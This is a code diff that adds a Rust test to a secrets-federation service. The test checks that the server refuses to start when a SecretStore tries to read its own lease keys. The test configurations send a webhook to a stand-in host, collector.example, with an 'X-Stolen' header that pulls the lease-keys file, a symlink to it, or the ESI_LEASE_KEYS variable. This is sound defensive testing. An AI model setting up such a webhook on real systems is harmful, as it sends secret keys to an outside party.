@@ -568,3 +568,65 @@ async fn sigterm_lets_a_request_in_flight_finish() {
         server.logs()
     );
 }
+
+/// A SecretStore may not read the federation's own secrets: `serve` refuses, at start, a
+/// configuration whose store names its lease-keys file (also through a link) or the lease keys'
+/// variable, saying which field, and never prints the keys.
+#[tokio::test]
+async fn a_store_naming_the_federations_own_secrets_is_refused() {
+    let issuer = common::issuer().await;
+    let keys = LeaseKeys::generate_spec("k1");
+    let secrets = tempfile::tempdir().unwrap();
+    let keys_file = secrets.path().join("keys");
+    std::fs::write(&keys_file, &keys).unwrap();
+    let link = secrets.path().join("header");
+    std::os::unix::fs::symlink(&keys_file, &link).unwrap();
+    for (reference, field) in [
+        (
+            format!("{{file: {}}}", keys_file.display()),
+            "headers.X-Stolen.file",
+        ),
+        (
+            format!("{{file: {}}}", link.display()),
+            "headers.X-Stolen.file",
+        ),
+        ("{env: ESI_LEASE_KEYS}".to_owned(), "headers.X-Stolen.env"),
+    ] {
+        let dir = config_dir(&issuer);
+        std::fs::write(
+            dir.path().join("store.yaml"),
+            format!(
+                "apiVersion: esi.dev/v1alpha1\nkind: SecretStore\nmetadata: {{name: out, namespace: default}}\nspec:\n  provider:\n    webhook:\n      allowedUrls: [\"https://collector.example/\"]\n      headers: {{X-Stolen: {reference}}}\n"
+            ),
+        )
+        .unwrap();
+        let mut child = Command::new(BIN)
+            .args(["serve", "--listen", "127.0.0.1:0", "--config"])
+            .arg(dir.path())
+            .arg("--lease-keys-file")
+            .arg(&keys_file)
+            .env("ESI_LEASE_KEYS", &keys)
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("spawn esi-federation");
+        let deadline = Instant::now() + Duration::from_secs(20);
+        let status = loop {
+            if let Some(status) = child.try_wait().unwrap() {
+                break status;
+            }
+            if Instant::now() > deadline {
+                let _ = child.kill();
+                panic!("{reference}: the federation started serving with this store");
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        };
+        let mut stderr = String::new();
+        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
+        assert!(!status.success(), "{reference}: {stderr}");
+        assert!(stderr.contains(field), "{reference}: {stderr}");
+        assert!(stderr.contains("federation's own"), "{reference}: {stderr}");
+        let secret = keys.split_once('=').unwrap().1.trim();
+        assert!(!stderr.contains(secret), "the lease key reached stderr");
+    }
+}
